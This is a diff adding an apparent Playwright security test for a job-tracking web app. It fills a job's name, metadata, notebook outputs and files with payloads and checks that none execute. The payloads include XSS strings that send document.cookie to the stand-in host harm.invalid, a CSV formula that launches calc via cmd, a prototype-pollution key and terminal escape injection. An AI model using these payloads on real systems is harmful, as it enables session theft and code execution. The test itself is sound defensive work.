@@ -1,0 +1,217 @@
+/** A job that wants to do harm to whoever looks at it: its name, what it prints and what it leaves hold scripts, in every page that shows them. */
+import { spawnSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import type { BrowserContext, Page } from "@playwright/test";
+import { createWorkspace, expectRunning, freeName, openLab, PROJECT } from "../app.ts";
+import { binary, serverUrl } from "../env.ts";
+import { expect, test } from "../fixtures.ts";
+import { Lab } from "../lab.ts";
+
+test.describe.configure({ mode: "serial" });
+
+/** What every attack does: leaves a mark, and tells a host of its own. */
+const ACT = "globalThis.__harm=1;fetch('http://harm.invalid/'+document.cookie)";
+const TAG = `<img src=x onerror="${ACT}"><svg onload="${ACT}"></svg><script>${ACT}</script>`;
+const LINK = `javascript:${ACT}`;
+const CLOSING = `"'></textarea></title></style></script><script>${ACT}</script>`;
+
+const output = (data: Record<string, unknown>) => ({
+  output_type: "display_data",
+  metadata: {},
+  data,
+});
+const code = (id: string, outputs: unknown[]) => ({
+  cell_type: "code",
+  id,
+  metadata: {},
+  source: `print(${JSON.stringify(TAG)})`,
+  execution_count: 1,
+  outputs,
+});
+
+const NOTEBOOK = JSON.stringify({
+  nbformat: 4,
+  nbformat_minor: 5,
+  metadata: { kernelspec: { name: TAG, display_name: CLOSING, language: CLOSING } },
+  cells: [
+    {
+      cell_type: "markdown",
+      id: "words",
+      metadata: {},
+      source: `# ${TAG}\n\n[link](${LINK}) ![image](${LINK}) <a href="${LINK}">x</a> <iframe src="${LINK}"></iframe>`,
+    },
+    code("html", [
+      output({ "text/html": `${TAG}<form action="http://harm.invalid/"><button>x</button></form>` }),
+    ]),
+    code("svg", [output({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="${ACT}"/>` })]),
+    code("script", [output({ "application/javascript": ACT, "text/plain": CLOSING })]),
+    code("png", [
+      output({ "image/png": `"><script>${ACT}</script>`, "text/latex": TAG, "text/markdown": TAG }),
+    ]),
+    code("error", [
+      {
+        output_type: "error",
+        ename: TAG,
+        evalue: CLOSING,
+        traceback: [`\u001b[31m${TAG}\u001b[0m`, CLOSING],
+      },
+    ]),
+    code("stream", [
+      { output_type: "stream", name: "stdout", text: `\u001b]8;;${LINK}\u0007x\u001b]8;;\u0007${TAG}` },
+    ]),
+  ],
+});
+
+/** The outputs by path; the page of each is visited. */
+const FILES: Record<string, string> = {
+  "notebook.ipynb": NOTEBOOK,
+  "page.html": `<html>${TAG}</html>`,
+  "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${ACT}"><script>${ACT}</script></svg>`,
+  "words.md": `# ${TAG}\n\n[link](${LINK})\n\n<details open ontoggle="${ACT}">x</details>`,
+  "data.json": `{"__proto__": {"x": ${JSON.stringify(TAG)}}, ${JSON.stringify(TAG)}: ${JSON.stringify(CLOSING)}}`,
+  "rows.csv": `${TAG.replaceAll('"', "'")},${LINK}\n=cmd|'/c calc'!A1,2\n`,
+  "code.py": `print(${JSON.stringify(TAG)})\n`,
+  "<img src=x onerror=globalThis.__harm=1>.txt": CLOSING,
+};
+
+const NAME = `harm ${TAG}`.slice(0, 200);
+let number = 0;
+let told: string[] = [];
+
+/** Everything that only an attack would do. */
+function watch(context: BrowserContext): void {
+  const own = new URL(serverUrl);
+  context.on("request", request => {
+    const url = new URL(request.url());
+    const isOurs = url.hostname === own.hostname || url.hostname.endsWith(`.${own.hostname}`);
+    if (/^(https?|wss?):$/.test(url.protocol) && !isOurs) told.push(`request: ${request.url()}`);
+  });
+  context.on("dialog", dialog => {
+    told.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+}
+
+/** Elements in the page that could act if its security policy let them. */
+const armed = (page: Page): Promise<string[]> =>
+  page.evaluate(() =>
+    [...document.querySelectorAll("*")]
+      .filter(
+        element =>
+          element.getAttributeNames().some(name => name.startsWith("on")) ||
+          /^(javascript|data:text)/i.test(
+            element.getAttribute("href") ?? element.getAttribute("src") ?? "",
+          ) ||
+          (element.localName === "script" && /harm/.test(element.textContent ?? "")),
+      )
+      .map(element => element.outerHTML),
+  );
+
+async function expectNoHarm(page: Page): Promise<void> {
+  expect(await armed(page), `attacks in ${page.url()}`).toEqual([]);
+  for (const frame of page.frames()) {
+    const marked = await frame.evaluate(() => "__harm" in globalThis).catch(() => false);
+    expect(marked, `a script ran in ${frame.url()}`).toBe(false);
+  }
+  expect(told).toEqual([]);
+}
+
+/** Runs the program as whoever is signed in. */
+async function submit(page: Page, folder: string): Promise<number> {
+  const made = await page.request.post("/api/v1/tokens", {
+    data: { name: `hostile ${Date.now()}` },
+    headers: { origin: serverUrl },
+  });
+  const { token } = (await made.json()) as { token: string };
+  const metadata = JSON.stringify({ [TAG]: 1, step: 1, [CLOSING]: TAG });
+  const script = `cat "$CAIRN_REPOSITORY/metadata.txt"; cp -r "$CAIRN_REPOSITORY/files/." "$CAIRN_OUTPUTS/"`;
+  writeFileSync(
+    join(folder, "metadata.txt"),
+    `${metadata}\n${TAG}\n\u001b]0;${CLOSING}\u0007\u001b[31m${TAG}\n`,
+  );
+  const words = ["run", "--json", "--wait", "--project", PROJECT, "--name", NAME, "--tag", TAG.slice(0, 60)];
+  const ran = spawnSync(binary ?? "", [...words, "--param", `evil=${CLOSING}`, "--", "sh", "-c", script], {
+    cwd: folder,
+    env: {
+      ...process.env,
+      CAIRN_HOME: join(folder, ".home"),
+      CAIRN_API_URL: serverUrl,
+      CAIRN_TOKEN: token,
+    },
+    encoding: "utf8",
+  });
+  expect(ran.status, ran.stderr).toBe(0);
+  return (JSON.parse(ran.stdout) as { number: number }).number;
+}
+
+test.beforeEach(({ context }) => {
+  told = [];
+  watch(context);
+});
+
+/**
+ * Chromium says so of handlers in a document that DOMParser made, which has no scripts at all (those in the page are looked for by themselves),
+ * and of the test's own question to a page that may run none.
+ */
+const HARMLESS = /^Executing inline event handler violates|^Blocked script execution in/;
+
+test.afterEach(({ appErrors }) => {
+  const others = appErrors.filter(each => !HARMLESS.test(each));
+  appErrors.splice(0, appErrors.length, ...others);
+});
+
+test("nothing of a hostile job runs in the pages of the app", async ({ page }) => {
+  test.skip(!binary, "CAIRN_E2E_BINARY names no program");
+  test.setTimeout(300_000);
+  const folder = mkdtempSync(join(tmpdir(), "cairn-e2e-hostile-"));
+  for (const [path, content] of Object.entries(FILES)) {
+    const file = join(folder, "files", path);
+    mkdirSync(dirname(file), { recursive: true });
+    writeFileSync(file, content);
+  }
+  number = await submit(page, folder);
+  rmSync(folder, { recursive: true });
+  const base = `/p/${PROJECT}/jobs`;
+  const tabs = ["", "/log", "/charts"].map(tab => `${base}/${number}${tab}`);
+  const files = Object.keys(FILES).flatMap(path => [
+    `${base}/${number}/outputs?path=${encodeURIComponent(path)}`,
+    `${base}/${number}/code?path=${encodeURIComponent(`files/${path}`)}`,
+  ]);
+  for (const place of ["/", base, ...tabs, ...files]) {
+    await page.goto(place);
+    await expect(page.getByRole("main")).toContainText(/harm/);
+    await expect(page.getByText("Loading", { exact: true })).toHaveCount(0);
+    await page.mouse.move(300, 400);
+    await expectNoHarm(page);
+  }
+});
+
+test("nothing of its files runs when one is opened by itself", async ({ page }) => {
+  test.skip(!binary, "CAIRN_E2E_BINARY names no program");
+  await page.goto("/");
+  for (const path of Object.keys(FILES)) {
+    const url = `/api/v1/projects/${PROJECT}/jobs/${number}/outputs/content?path=${encodeURIComponent(path)}`;
+    // What is no picture comes as a download, which is no page.
+    const opened = await page.goto(url).catch((error: unknown) => String(error));
+    if (typeof opened === "string") expect(opened).toMatch(/Download is starting|ERR_ABORTED/);
+    else expect(opened?.headers()["content-security-policy"]).toContain("sandbox");
+    await expectNoHarm(page);
+  }
+});
+
+test("nothing of it runs in the panel in JupyterLab", async ({ page }) => {
+  test.skip(!binary, "CAIRN_E2E_BINARY names no program");
+  test.setTimeout(480_000);
+  await createWorkspace(page, await freeName(page, "hostile"));
+  await expectRunning(page);
+  const tab = await openLab(page);
+  await new Lab(tab).ready();
+  await tab.locator('.jp-SideBar [data-id="cairn-panel"]').first().click();
+  const job = tab.getByRole("region", { name: "Cairn" }).locator(`.cairn-Job[data-number="${number}"]`);
+  await job.getByRole("button", { expanded: false }).click();
+  await expect(job).toContainText("harm");
+  await expect(job).toContainText("onerror");
+  await expectNoHarm(tab);
+});
